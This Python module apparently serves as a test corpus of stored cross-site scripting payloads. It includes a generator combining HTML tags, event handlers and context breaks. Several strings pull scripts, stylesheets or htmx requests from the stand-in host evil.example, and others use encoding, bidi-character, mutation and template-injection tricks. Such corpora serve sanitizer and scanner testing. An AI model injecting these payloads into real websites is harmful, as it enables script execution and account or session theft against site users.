"""Texts that have run as script somewhere: the known forms of stored cross-site scripting, and their disguises."""

from collections.abc import Iterator
from typing import Final

_TAGS: Final = ("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "math", "a")
_EVENTS: Final = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onstart", "onanimationend")
_BREAKS: Final = ('"', "'", '">', "'>", "</a>", "</title>", "</textarea>", "-->", "</svg>", "</bdi>", "</code>", "\n")
_ALONE: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "<script\x0c>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<template><img src onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "{{7*7}}",
    "{% import os %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1)>",
    "<div data-hx-post=/console/sign-out hx-trigger=load>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
)


def _made() -> Iterator[str]:
    yield from _ALONE
    for tag in _TAGS:
        for event in _EVENTS:
            yield f"<{tag} src=x {event}=alert(1)>"
    for mark in _BREAKS:
        for event in _EVENTS:
            yield f"{mark} {event}=alert(1) x={mark}<img src=x {event}=alert(1)>"


PAYLOADS: Final = tuple(dict.fromkeys(_made()))[:220]
